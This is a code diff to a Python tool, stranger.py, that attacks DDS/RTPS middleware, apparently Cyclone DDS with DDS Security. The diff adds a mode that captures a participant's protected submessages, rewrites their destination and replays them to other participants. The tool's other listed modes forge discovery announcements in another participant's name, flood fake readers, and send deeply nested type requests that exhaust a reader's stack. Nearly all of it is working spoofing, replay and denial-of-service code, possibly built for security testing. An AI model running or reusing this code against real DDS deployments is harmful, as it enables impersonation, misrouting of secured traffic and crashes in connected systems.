@@ -18,13 +18,18 @@ Usage: stranger.py request                an empty request to the participant th
                                           soon as they begin a new session
        stranger.py removing               to each of two that talk, clear announcements in the other's name that dispose of its
                                           endpoints and of its secure discovery, or put its readers elsewhere
+       stranger.py redirecting PREFIX     what the participant whose GUIDs begin with PREFIX (hexadecimal) says to each
+                                          other one under protected submessages, to all the others, for 2 s from when a
+                                          line comes
        stranger.py crowding               to the one that answers, clear announcements of 650 readers in the name of the other
        stranger.py asking                 to each of two that talk, in the other's name and in the clear, a request for a type
                                           that is nested so deeply that its reader's stack ends
 It says "forged N" when it is done.
 """
 
+import collections
 import os
+import select
 import socket
 import struct
 import sys
@@ -37,7 +42,7 @@ OTHERS_DEPEND_ON_IT = 0x10  # a flag of Cyclone's VERSION_INFO
 SECURE_DISCOVERY = 0x000f0000  # of publications and subscriptions, in ENDPOINT_SET
 TYPE_REQUESTS = bytes.fromhex("000300c3")
 DEPTH, FRAGMENT = 100000, 32000
-RECORDED, REPLAYED = 3, 6  # seconds
+RECORDED, REPLAYED, POURED = 3, 6, 2  # seconds
 CLASS = "DDS:Auth:PKI-DH:1.0+"
 # Any point of the curve will do as a public key for an agreement that is never finished: its generator.
 P256_GENERATOR = bytes.fromhex("046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
@@ -223,6 +228,19 @@ def type_requests(of, to):
         yield begin + submessage(0x16, 0, struct.pack("<HH", 0, 28) + ends + at + numbers + piece)
 
 
+def redirect(network, speaker):
+    """Only the destination is changed, which stands in front of what is protected."""
+    said = {}
+    while not select.select([sys.stdin], [], [], 0)[0]:
+        for to, message in network.heard(0.1):
+            # INFO_DST and SEC_PREFIX; longer messages have samples in them.
+            if message[8:14] == speaker and message[20] == 0x0e and message[36:37] == b"\x31" and len(message) < 220:
+                said.setdefault(message[24:36], collections.deque(maxlen=12)).append((to, message))
+    forged = [(said[other][-1][0], message[:24] + other + message[36:])
+              for one in said for other in said if other != one for _, message in said[one]]
+    network.replay(forged, POURED)
+
+
 FORGERIES = {"announced": lambda true: true.replace(b"PKI-DH:1.0", b"PKI-DH:9.0"), "fewer": fewer}
 
 
@@ -309,6 +327,9 @@ def main():
         message = nameless(network.announcements[first])
         network.hear(2, lambda: network.announce(message))
         network.repeat(1, 0.01, lambda: network.announce(message))
+        return print(f"forged {network.sent}", flush=True)
+    if mode == "redirecting":
+        redirect(network, bytes.fromhex(sys.argv[2]))
         return print(f"forged {network.sent}", flush=True)
     begins, answers = network.hear(2)
     if mode == "request":
